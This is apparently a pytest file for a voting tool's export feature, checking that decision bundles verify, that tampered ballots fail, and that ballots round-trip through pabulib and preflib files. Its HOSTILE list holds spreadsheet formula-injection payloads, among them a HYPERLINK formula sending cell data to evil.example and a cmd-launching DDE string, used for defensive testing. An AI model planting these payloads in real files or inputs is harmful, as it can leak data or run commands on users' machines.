"""`stoa export`: a decision as a bundle that verifies, its ballots as files that other programs read."""

from __future__ import annotations

import io
import json
import zipfile
from collections import Counter
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from preflibtools.instances import CategoricalInstance  # type: ignore[import-untyped]

from stoa.agenda import exports
from stoa.agenda.acts import import_votes
from stoa.agenda.models import Question, Round
from stoa.kit.act import OPERATOR
from stoa.kit.faults import Closed
from stoa.methods.equal_shares import choose
from stoa.methods.pabulib import read
from stoa.record.sequencer import sequence
from stoa.verify import verify
from tests.cli.command import stoa, succeed
from tests.postgres import clone_after
from tests.stage import Stage

pytestmark = pytest.mark.slow

ASSEN = Path(__file__).parents[3] / "shared" / "data" / "votes" / "pabulib" / "Netherlands_Assen_2024.pb"


@pytest.fixture
def decided(django_db_setup: None, django_db_blocker: Any) -> Iterator[Round]:
    with django_db_blocker.unblock(), clone_after(_decided):
        yield Round.objects.select_related("ballot").get(slug="assen")


def _decided() -> None:
    with ASSEN.open("rb") as stream:
        import_votes(OPERATOR, round=Stage().round("assen"), election=read(stream), digest="ab" * 32)
    sequence()


def test_the_bundle_of_the_command_is_that_of_the_function_and_verifies(decided: Round, tmp_path: Path) -> None:
    done = succeed("export", "bundle", "assen", tmp_path / "one.zip", "--json", here=True)

    body = (tmp_path / "one.zip").read_bytes()
    assert body == exports.bundle(decided)
    assert done.json == {"round": "assen", "file": str(tmp_path / "one.zip"), "bytes": len(body)}
    report = verify(str(tmp_path / "one.zip"), state=tmp_path / "state")
    assert (report.exit_code, report.first_failure, report.stopped) == (0, None, "")
    assert succeed("verify", tmp_path / "one.zip", "--state", tmp_path / "state", "--json").json["outcome"] == "passed"


def test_a_bundle_with_another_ballot_does_not_verify(decided: Round, tmp_path: Path) -> None:
    source = zipfile.ZipFile(io.BytesIO(exports.bundle(decided)))
    with zipfile.ZipFile(tmp_path / "changed.zip", "w") as changed:
        for info in source.infolist():
            changed.writestr(
                info.filename, source.read(info).replace(b'"approved":["', b'"approved":["question:1","', 1)
            )
    assert verify(str(tmp_path / "changed.zip"), state=tmp_path / "state").exit_code == 1


def test_the_bundle_names_every_entry_of_the_vote_in_order(decided: Round) -> None:
    with zipfile.ZipFile(io.BytesIO(exports.bundle(decided))) as archive:
        listing = json.loads(archive.read("bundle.json"))
    assert listing.keys() == {"format", "origin", "round", "entries"}
    assert len(listing["entries"]) == 4


def test_opened_ballots_round_trip_through_pabulib(decided: Round) -> None:
    election = read(io.BytesIO(exports.pabulib_text(decided).encode()))
    with ASSEN.open("rb") as stream:
        original = read(stream)

    assert (election.budget, election.scale, election.warnings) == (original.budget, original.scale, ())
    assert {p.id: p.cost for p in election.projects} == {p.id: p.cost for p in original.projects}
    assert Counter(frozenset(v.approved) for v in election.votes) == Counter(
        frozenset(v.approved) for v in original.votes
    )
    chosen = {
        line.split(";")[0]
        for line in exports.pabulib_text(decided).splitlines()
        if line.endswith(";1") and line.count(";") == 4
    }
    selected = decided.questions.filter(state=Question.State.CHOSEN).values_list("external_id", flat=True)
    assert chosen == set(selected)
    costs = {q.reference: q.cost or 0 for q in decided.questions.all()}
    assert decided.ballot is not None
    ballots = [[f"question:{_number(decided, key)}" for key in vote.approved] for vote in election.votes]
    again = choose(ballots, costs, decided.ballot.capacity, seed=bytes.fromhex("ab" * 32))
    assert decided.decision.result is not None
    assert list(again.selected) == decided.decision.result["selected"]


def test_preflib_tools_read_the_ballots(decided: Round) -> None:
    instance = CategoricalInstance()
    instance.parse_str(exports.preflib_text(decided), "cat", "assen.cat")

    assert (instance.num_alternatives, instance.num_voters, instance.num_categories) == (14, 84, 2)
    assert sum(instance.multiplicity.values()) == 84
    names = [q.title for q in decided.questions.order_by("pk")]
    assert list(instance.alternatives_name.values()) == names
    approvals: Counter[str] = Counter()
    for ballot, count in instance.multiplicity.items():
        approvals.update({names[place - 1]: count for place in ballot[0]})
    with ASSEN.open("rb") as stream:
        votes = read(stream).votes
    assert approvals.total() == sum(len(vote.approved) for vote in votes)


HOSTILE = [
    'One; "two"',
    '=HYPERLINK("http://evil.example/?"&A1;"result")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1;-1",
    "'=1",
    "META",
    "# NUMBER VOTERS: 9",
    '"',
    "1: {1},{}",
    "ü, \u202e 🙂",
]


def test_hostile_titles_come_back_to_the_letter(decided: Round) -> None:
    asked = list(decided.questions.order_by("pk"))
    for question, title in zip(asked, HOSTILE, strict=False):
        question.title = title
    Question.objects.bulk_update(asked, ["title"])

    election = read(io.BytesIO(exports.pabulib_text(decided).encode()))
    assert {p.id: p.name for p in election.projects} == {q.external_id: q.title for q in asked}
    instance = CategoricalInstance()
    instance.parse_str(exports.preflib_text(decided), "cat", "assen.cat")
    assert list(instance.alternatives_name.values()) == [q.title for q in asked]
    assert (instance.num_voters, sum(instance.multiplicity.values())) == (84, 84)


def test_no_text_begins_a_line_of_its_own(decided: Round) -> None:
    before = exports.preflib_text(decided).count("\n"), exports.pabulib_text(decided).count("\n")
    Round.objects.filter(pk=decided.pk).update(title="Two\r\n99: {1},{}\x0b\u2028lines")
    decided.refresh_from_db()
    after = exports.preflib_text(decided), exports.pabulib_text(decided)
    assert tuple(text.count("\n") for text in after) == before
    assert all(len(text.splitlines()) == text.count("\n") for text in after)


@pytest.mark.django_db
def test_what_is_not_opened_is_not_exported() -> None:
    undecided = Stage().round()
    for make in (exports.bundle, exports.pabulib_text, exports.preflib_text):
        with pytest.raises(Closed):
            make(undecided)


def test_a_round_without_decision_is_said_and_no_file_appears(cloned_db: str, tmp_path: Path) -> None:
    Stage().round()
    fault = stoa("export", "bundle", "2027", tmp_path / "one.zip", here=True).fault
    assert fault == "This round has no decision on the record yet. Come back when its agenda is there."
    assert list(tmp_path.iterdir()) == []


def _number(decided: Round, external_id: str) -> int:
    return decided.questions.get(external_id=external_id).pk
